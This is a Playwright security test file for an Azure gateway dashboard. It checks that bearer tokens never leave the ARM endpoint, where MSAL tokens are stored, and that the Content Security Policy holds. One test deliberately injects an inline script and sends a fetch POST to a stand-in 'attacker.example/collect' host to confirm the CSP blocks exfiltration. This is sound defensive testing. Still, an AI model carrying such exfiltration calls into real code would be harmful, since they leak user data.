import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from './support/page-guard.ts';
import { emulatorForThisSpec } from './support/emulator.ts';
import { control } from './support/emulator-control.ts';
import { configFor, gatewayPanel, lastUpdatedAt, peerRows, POLL_SECONDS, signIn, useConfig } from './support/app.ts';


const emulator = emulatorForThisSpec();

const ONE_POLL_MS = (POLL_SECONDS + 4) * 1000;

/** A server on another origin that records whatever reaches it. */
async function startCollector(): Promise<{ url: string; seen: { url: string; headers: IncomingHttpHeaders }[]; server: Server }> {
  const seen: { url: string; headers: IncomingHttpHeaders }[] = [];
  const server = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Content-Type': 'application/json' });
    res.end('{"status":"Succeeded","value":[]}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, server };
}

/** Every bearer token the page sent, and where it sent it. */
function recordBearerTokens(page: Page) {
  const sent: { origin: string; token: string }[] = [];
  page.on('request', async (request) => {
    const authorization = (await request.allHeaders()).authorization;
    const match = authorization ? /^Bearer (.+)$/i.exec(authorization) : null;
    if (match?.[1]) sent.push({ origin: new URL(request.url()).origin, token: match[1] });
  });
  return sent;
}

test('a polling URL on another origin is refused, and that server receives nothing, let alone the token', async ({ page }) => {
  const collector = await startCollector();
  try {
    await useConfig(page, configFor(emulator.info, 'emulator'));
    await signIn(page, 'emulator');
    const [target] = emulator.fleet.gateways;
    const panel = gatewayPanel(page, target!.id);
    await expect(peerRows(panel).first()).toBeVisible();

    await control(emulator.info).injectFault({
      kind: 'foreignPollingUrl',
      gatewayId: target!.id,
      operation: 'getBgpPeerStatus',
      pollingUrl: `${collector.url}/subscriptions/x/providers/Microsoft.Network/locations/westeurope/operations/stolen?api-version=2023-09-01`,
    });
    const stale = panel.getByTestId('stale-marker');
    await expect(stale).toContainText('ForeignPollingUrl', { timeout: ONE_POLL_MS });
    await expect(stale).toContainText('Refused to follow Azure to another server, so the sign-in token stays with ARM');
    await expect(stale).toContainText(collector.url);

    // One more poll under the fault, to be sure nothing was sent later either.
    const failedAt = Date.now();
    await expect.poll(() => lastUpdatedAt(gatewayPanel(page, emulator.fleet.gateways[1]!.id)), { timeout: ONE_POLL_MS }).toBeGreaterThan(failedAt);
    expect(collector.seen).toEqual([]);
  } finally {
    collector.server.close();
  }
});

test('bearer tokens go to the ARM endpoint only, and never appear in a URL or the console', async ({ page }) => {
  const sent = recordBearerTokens(page);
  const urls: string[] = [];
  const consoleLines: string[] = [];
  page.on('request', (request) => urls.push(request.url()));
  page.on('framenavigated', (frame) => urls.push(frame.url()));
  page.on('console', (message) => consoleLines.push(message.text()));

  await useConfig(page, configFor(emulator.info, 'msal-aad'));
  await signIn(page, 'msal-aad');
  const panel = page.getByTestId('gateway-panel').first();
  const before = await lastUpdatedAt(panel);
  await expect.poll(() => lastUpdatedAt(panel), { timeout: ONE_POLL_MS }).toBeGreaterThan(before);

  expect(sent.length).toBeGreaterThan(0);
  expect([...new Set(sent.map((s) => s.origin))]).toEqual([new URL(emulator.info.armEndpoint).origin]);
  const tokens = [...new Set(sent.map((s) => s.token))];
  for (const token of tokens) {
    // The signature alone is enough to replay nothing, but a token's payload must not leak either.
    const [, payload = '', signature = ''] = token.split('.');
    for (const text of [...urls, ...consoleLines]) {
      expect(text).not.toContain(signature);
      expect(text).not.toContain(payload);
    }
  }
});

/** Storage entries whose key or value looks like an MSAL credential (access, refresh or ID token). */
async function credentialEntries(page: Page, storage: 'sessionStorage' | 'localStorage'): Promise<string[]> {
  return page.evaluate((name) => {
    const store = window[name];
    const found: string[] = [];
    for (let i = 0; i < store.length; i++) {
      const key = store.key(i) ?? '';
      const value = store.getItem(key) ?? '';
      if (/accesstoken|refreshtoken|idtoken/i.test(key) || /"credentialType"\s*:\s*"(AccessToken|RefreshToken|IdToken)/i.test(value)) found.push(key);
    }
    return found;
  }, storage);
}

test('MSAL keeps its tokens in sessionStorage by default, gone with the tab', async ({ page }) => {
  await useConfig(page, configFor(emulator.info, 'msal-aad'));
  await signIn(page, 'msal-aad');
  expect(await credentialEntries(page, 'sessionStorage')).not.toEqual([]);
  expect(await credentialEntries(page, 'localStorage')).toEqual([]);
});

test('MSAL keeps its tokens in localStorage only when config.json asks for it (wall screens)', async ({ page }) => {
  const config = configFor(emulator.info, 'msal-aad');
  await useConfig(page, { ...config, auth: { ...config.auth, cacheLocation: 'localStorage' } });
  await signIn(page, 'msal-aad');
  expect(await credentialEntries(page, 'localStorage')).not.toEqual([]);
  expect(await credentialEntries(page, 'sessionStorage')).toEqual([]);
});

test('the app is served with a Content Security Policy that blocks inline scripts and foreign connections', async ({ page, pageGuard }) => {
  await useConfig(page, configFor(emulator.info, 'emulator'));
  const response = await page.goto('/');
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("default-src 'none'");
  expect(policy).toMatch(/connect-src 'self' [^;]*http:\/\/localhost:\*/);
  expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*\.|connect-src[^;]* \*( |;|$)/);
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', /script-src 'self'/);

  // The two violations this test causes on purpose.
  pageGuard.allow(/inline script violates/, /script-src(-elem)? blocked inline/, /attacker\.example/);
  const injected = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.body.append(script);
    return window.__injected === true;
  });
  expect(injected).toBe(false);
  const exfiltrated = await page.evaluate(() =>
    fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
      () => true,
      () => false,
    ),
  );
  expect(exfiltrated).toBe(false);
  await expect.poll(() => pageGuard.cspViolations.some((v) => /^script-src(-elem)? blocked inline/.test(v))).toBe(true);
  await expect.poll(() => pageGuard.cspViolations.some((v) => /^connect-src blocked https:\/\/attacker\.example/.test(v))).toBe(true);
});
